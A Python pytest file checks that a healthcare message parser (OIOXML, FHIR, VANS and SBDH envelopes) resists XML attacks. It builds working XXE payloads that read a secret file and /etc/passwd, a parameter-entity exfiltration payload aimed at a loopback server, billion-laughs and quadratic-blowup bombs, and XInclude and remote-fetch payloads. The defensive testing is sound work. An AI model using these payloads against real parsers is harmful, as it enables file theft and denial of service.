"""XML attacks through every XML entry point: OIOXML (parse_xml), FHIR XML (parse_fhir),
VANSEnvelope and SBDH (unwrap, with the attack as the envelope or as its payload) and the
front door (parse_messages).

Each attack must be refused, or read without resolving anything: quickly (< 2 s), with
bounded memory (< 200 MB over what the input itself takes), no file's content in any
output and no connection to any server.
"""

from __future__ import annotations

import base64
import contextlib
import json
import resource
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from engine.formats import envelope, fhir, xml
from engine.formats.sniff import parse_messages

SECONDS = 2.0
MEMORY_BYTES = 200 * 1024 * 1024
MARKER = "KANAL-SECRET-7f3a9c"  # the content of the file the attacks point at
PASSWD_LINE = "root:x:0:0"  # /etc/passwd's first line on any Linux this runs on

OIOXML = ('<Emessage xmlns="urn:oio:medcom:xdis91:1.0.3">', "</Emessage>")
FHIR = ('<Bundle xmlns="http://hl7.org/fhir">', "</Bundle>")
VANS_NS = envelope.VANS_NS
SBDH_NS = envelope.SBDH_NS


# --- the attacker's side: a file to steal and a server to call ----------------------------


@dataclass
class Target:
    secret: Path  # a file whose content must never come out
    dtd: Path  # a DTD on disk that defines an entity holding the secret
    url: str  # a server on loopback: any connection to it is a request the parser made
    hits: list[bytes]


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    folder = tmp_path_factory.mktemp("attack")
    secret = folder / "secret.txt"
    secret.write_text(MARKER)
    dtd = folder / "evil.dtd"
    dtd.write_text(f'<!ENTITY leak SYSTEM "{secret.as_uri()}">')
    hits: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                with contextlib.suppress(OSError):
                    hits.append(conn.recv(4096))
                    body = f'<!ENTITY leak "{MARKER}">'.encode()
                    conn.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + body)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    port = server.getsockname()[1]
    yield Target(secret, dtd, f"http://127.0.0.1:{port}", hits)
    stop.set()
    thread.join(2)
    server.close()


# --- the attacks ----------------------------------------------------------------------------


def attacks(t: Target) -> dict[str, Callable[[tuple[str, str]], bytes]]:
    """Each attack as a document whose root is `root` (opening tag, closing tag)."""
    secret, dtd, url = t.secret.as_uri(), t.dtd.as_uri(), t.url

    def doctype(subset: str, body: str = "&leak;") -> Callable[[tuple[str, str]], bytes]:
        def build(root: tuple[str, str]) -> bytes:
            name = root[0][1:].split()[0]
            return f"<!DOCTYPE {name} [{subset}]>{root[0]}<id>{body}</id>{root[1]}".encode()

        return build

    def plain(body: str, prolog: str = "") -> Callable[[tuple[str, str]], bytes]:
        return lambda root: f"{prolog}{root[0]}{body}{root[1]}".encode()

    def huge(opening: str, size: int, closing: str) -> Callable[[tuple[str, str]], bytes]:
        # bytes, not text: one copy of the bulk rather than three
        return lambda root: b"".join(
            [(root[0] + opening).encode(), b"A" * size, (closing + root[1]).encode()]
        )

    laughs = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    )
    return {
        "xxe-file": doctype(f'<!ENTITY leak SYSTEM "{secret}">'),
        "xxe-passwd": doctype('<!ENTITY leak SYSTEM "file:///etc/passwd">'),
        "xxe-http": doctype(f'<!ENTITY leak SYSTEM "{url}/entity">'),
        "billion-laughs": doctype(laughs, "&lol9;"),
        "quadratic-blowup": doctype(f'<!ENTITY leak "{"x" * 50_000}">', "&leak;" * 50_000),
        "external-dtd-file": lambda root: (
            f'<!DOCTYPE r SYSTEM "{dtd}">{root[0]}<id>&leak;</id>{root[1]}'.encode()
        ),
        "external-dtd-http": lambda root: (
            f'<!DOCTYPE r SYSTEM "{url}/evil.dtd">{root[0]}<id>&leak;</id>{root[1]}'.encode()
        ),
        "parameter-entity-file": doctype(f'<!ENTITY % p SYSTEM "{dtd}"> %p;'),
        "parameter-entity-http": doctype(f'<!ENTITY % p SYSTEM "{url}/evil.dtd"> %p;'),
        "parameter-entity-exfiltration": doctype(
            f'<!ENTITY % file SYSTEM "{secret}">'
            f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{url}/?%file;'>\"> %wrap; %send;",
            "x",
        ),
        "xinclude-file": plain(
            f'<id xmlns:xi="http://www.w3.org/2001/XInclude">'
            f'<xi:include href="{secret}" parse="text"/></id>'
        ),
        "xinclude-http": plain(
            f'<id xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{url}/x"/></id>'
        ),
        "xsl-stylesheet-pi": plain("<id/>", f'<?xml-stylesheet href="{url}/s.xsl"?>'),
        "schema-location": plain(
            f'<id xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="urn:x {url}/s.xsd"/>'
        ),
        "deep-nesting-100k": plain("<a>" * 100_000 + "</a>" * 100_000),
        "huge-attribute-50mb": huge('<id value="', 50_000_000, '"/>'),
        "huge-text-200mb": huge("<id>", 200_000_000, "</id>"),
        "many-attributes": plain("<id " + " ".join(f'a{n}="x"' for n in range(200_000)) + "/>"),
    }


ATTACKS = [
    "xxe-file", "xxe-passwd", "xxe-http", "billion-laughs", "quadratic-blowup",
    "external-dtd-file", "external-dtd-http", "parameter-entity-file",
    "parameter-entity-http", "parameter-entity-exfiltration", "xinclude-file",
    "xinclude-http", "xsl-stylesheet-pi", "schema-location", "deep-nesting-100k",
    "huge-attribute-50mb", "huge-text-200mb", "many-attributes",
]  # fmt: skip
# Too big for an envelope's payload (over MAX_PAYLOAD_BYTES): the envelope refuses them by
# size before anything parses them, which test_huge_payload_is_refused_by_size shows.
HUGE = {"huge-attribute-50mb", "huge-text-200mb"}


# --- the entry points -----------------------------------------------------------------------


def vans(data: str, *, head: tuple[str, str] = ("", "")) -> bytes:
    """A VANSEnvelope with `data` as Message/Data; `head` goes before/around it."""
    return (
        f'{head[0]}<VANSEnvelope xmlns="{VANS_NS}"><EnvelopeIdentifier>e1</EnvelopeIdentifier>'
        "<SentDateTime>2024-01-01T00:00:00</SentDateTime>"
        '<SenderID type="EAN">1</SenderID><ReceiverID type="EAN">2</ReceiverID>'
        "<Message><MetaInformation><Identifier>m1</Identifier>"
        "<Document><Format>XML</Format><Name>XDIS91</Name></Document></MetaInformation>"
        f"<Data>{data}</Data></Message></VANSEnvelope>{head[1]}"
    ).encode()


def sbdh(content: str) -> bytes:
    return (
        f'<StandardBusinessDocument xmlns="{SBDH_NS}"><StandardBusinessDocumentHeader>'
        "<HeaderVersion>1.0</HeaderVersion>"
        "<Sender><Identifier>0088:5790000121526</Identifier></Sender>"
        "<Receiver><Identifier>0088:5790001234567</Identifier></Receiver>"
        "<DocumentIdentification>"
        "<InstanceIdentifier>e1</InstanceIdentifier><Type>X</Type>"
        "</DocumentIdentification></StandardBusinessDocumentHeader>"
        f'<BinaryContent mimeType="application/xml">{content}</BinaryContent>'
        "</StandardBusinessDocument>"
    ).encode()


def _text(value: Any) -> str:
    """Everything a result shows, as text, to search for what must not be there."""
    if value is None:
        return ""
    if isinstance(value, etree._Element):
        return etree.tostring(value.getroottree(), encoding="unicode") + "".join(
            str(t) for t in value.itertext()
        )
    if isinstance(value, bytes):
        return value.decode("latin-1")
    if isinstance(value, dict):
        return json.dumps(value, default=str)
    text = getattr(value, "text", None)
    return text if isinstance(text, str) else repr(value)


def read_oioxml(raw: bytes) -> str:
    try:
        root = xml.parse_xml(raw)
    except xml.XMLError as exc:
        return f"refused: {exc}"
    meta = xml.extract_metadata(root, xml.declared_encoding(root))
    return _text(root) + json.dumps(meta.as_dict())


def read_fhir(raw: bytes) -> str:
    try:
        return _text(fhir.parse_fhir(raw))
    except fhir.FHIRError as exc:
        return f"refused: {exc}"


def read_envelope(raw: bytes) -> str:
    try:
        root = xml.parse_xml(raw)
    except xml.XMLError as exc:
        return f"refused: {exc}"
    try:
        unwrapped = envelope.unwrap(root)
    except envelope.EnvelopeError as exc:
        return f"refused: {exc}"
    return _text(root) + _text(unwrapped.payload) + repr(unwrapped)


def read_front_door(raw: bytes) -> str:
    out = []
    for item in parse_messages(raw):  # never raises
        out += [str(item.error), _text(item.parsed), json.dumps(item.meta.as_dict())]
        out += [repr(item.envelope), _text(item.envelope.payload) if item.envelope else ""]
        if item.error is None:
            assert item.parsed is not None
    return "\n".join(out)


@dataclass
class Case:
    entry: str
    read: Callable[[bytes], str]
    build: Callable[[Callable[[tuple[str, str]], bytes]], bytes]


def _in_vans_head(attack: Callable[[tuple[str, str]], bytes]) -> bytes:
    """The attack in the VANSEnvelope itself: its <id> is the EnvelopeIdentifier."""
    opening, rest = (
        vans(_b64(b"MSH|^~\\&|")).decode().split("<EnvelopeIdentifier>e1</EnvelopeIdentifier>")
    )
    doc = attack((opening, rest))
    return doc.replace(b"<id", b"<EnvelopeIdentifier").replace(b"</id>", b"</EnvelopeIdentifier>")


def _b64(doc: bytes) -> str:
    return base64.b64encode(doc).decode()


CASES = [
    Case("oioxml", read_oioxml, lambda attack: attack(OIOXML)),
    Case("fhir-xml", read_fhir, lambda attack: attack(FHIR)),
    Case("vans-envelope", read_envelope, lambda attack: _in_vans_head(attack)),
    Case("vans-payload", read_envelope, lambda attack: vans(_b64(attack(OIOXML)))),
    Case("vans-fhir-payload", read_envelope, lambda attack: vans(_b64(attack(FHIR)))),
    Case("sbdh-payload", read_envelope, lambda attack: sbdh(_b64(attack(OIOXML)))),
    Case("sbdh-inline", read_envelope, lambda attack: sbdh(attack(OIOXML).decode())),
    Case("front-door-oioxml", read_front_door, lambda attack: attack(OIOXML)),
    Case("front-door-fhir", read_front_door, lambda attack: attack(FHIR)),
    Case("front-door-vans", read_front_door, lambda attack: vans(_b64(attack(OIOXML)))),
    Case("front-door-sbdh", read_front_door, lambda attack: sbdh(_b64(attack(FHIR)))),
]
_IN_PAYLOAD = {"vans-payload", "vans-fhir-payload", "sbdh-payload", "front-door-vans"}
_IN_PAYLOAD |= {"front-door-sbdh", "sbdh-inline"}


# --- measuring ------------------------------------------------------------------------------


def _status(field: str) -> int:
    """A VmRSS/VmHWM figure of this process, in bytes."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) * 1024
    raise LookupError(field)


@contextlib.contextmanager
def peak_memory() -> Iterator[list[int]]:
    """The resident memory this block added at its peak, in bytes. Linux resets the peak
    (VmHWM) on request; elsewhere ru_maxrss only rises, which under-counts but never
    fails a good parser."""
    found: list[int] = []
    try:
        Path("/proc/self/clear_refs").write_text("5")
        before, peak = _status("VmRSS"), lambda: _status("VmHWM")
    except OSError:
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
        peak = lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # noqa: E731
    yield found
    found.append(max(0, peak() - before))


def _params() -> list[Any]:
    params = []
    for case in CASES:
        for name in ATTACKS:
            if name in HUGE and case.entry in _IN_PAYLOAD:
                continue
            params.append(pytest.param(case, name, id=f"{case.entry}-{name}"))
    return params


@pytest.fixture(scope="module")
def built(target: Target) -> dict[str, Callable[[tuple[str, str]], bytes]]:
    return attacks(target)


@pytest.mark.parametrize(("case", "name"), _params())
def test_attack_is_refused_or_harmless(
    case: Case, name: str, target: Target, built: dict[str, Callable[[tuple[str, str]], bytes]]
) -> None:
    raw = case.build(built[name])
    hits = len(target.hits)
    with peak_memory() as memory:
        started = time.perf_counter()
        output = case.read(raw)
        elapsed = time.perf_counter() - started
    del raw
    assert elapsed < SECONDS, f"{case.entry} took {elapsed:.1f} s over {name}"
    assert memory[0] < MEMORY_BYTES, f"{case.entry} took {memory[0] >> 20} MB over {name}"
    assert MARKER not in output, f"{case.entry} resolved {name}: the file's content is out"
    assert PASSWD_LINE not in output, f"{case.entry} resolved {name}: /etc/passwd is out"
    time.sleep(0.01)  # a connection the parser opened has reached the server by now
    assert len(target.hits) == hits, f"{case.entry} fetched {target.hits[hits:]!r}"
    if name.startswith(("xxe", "billion", "quadratic", "external", "parameter")):
        assert "lollollol" not in output  # nothing was expanded either


def test_huge_payload_is_refused_by_size() -> None:
    """A payload too big to carry is refused before it is decoded, let alone parsed: by
    the parser's 10 MB text limit, or by the envelope's own payload limit below that."""
    too_big = "A" * (envelope.MAX_PAYLOAD_BYTES // 3 * 4 + 8)
    with peak_memory() as memory:
        started = time.perf_counter()
        output = read_envelope(vans(too_big))
        elapsed = time.perf_counter() - started
    assert output.startswith("refused:") and "too long" in output
    assert elapsed < SECONDS and memory[0] < MEMORY_BYTES
    root = xml.parse_xml(vans(base64.b64encode(b"<r/>" * 1000).decode()))
    with pytest.raises(envelope.EnvelopeError, match="holds more than 3000 bytes"):
        envelope.unwrap(root, max_payload_bytes=3000)


def test_the_hardened_parser_is_the_one_in_use() -> None:
    """What makes the rest hold: no entities, no DTD, no network, no huge trees."""
    parser = xml.parser.hardened_parser()
    doc = b'<!DOCTYPE r [<!ENTITY e "expanded">]><r>&e;</r>'
    root = etree.fromstring(doc, parser)
    assert "expanded" not in "".join(root.itertext())
    with pytest.raises(xml.XMLError):
        xml.parse_xml(b"<r>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</r>")
